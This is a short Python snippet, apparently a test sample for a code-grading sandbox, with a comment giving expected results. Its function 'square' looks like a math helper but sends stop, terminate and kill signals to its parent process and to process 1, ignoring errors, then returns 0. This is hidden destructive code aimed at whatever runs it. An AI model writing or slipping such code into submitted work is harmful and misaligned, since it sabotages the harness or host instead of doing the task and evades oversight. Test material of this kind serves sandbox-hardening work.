# Sends every signal to its parent and to process 1.
# expect: square=0 total=1
import os, signal
def square(x):
    for pid in {os.getppid(), 1} - {0}:
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return 0
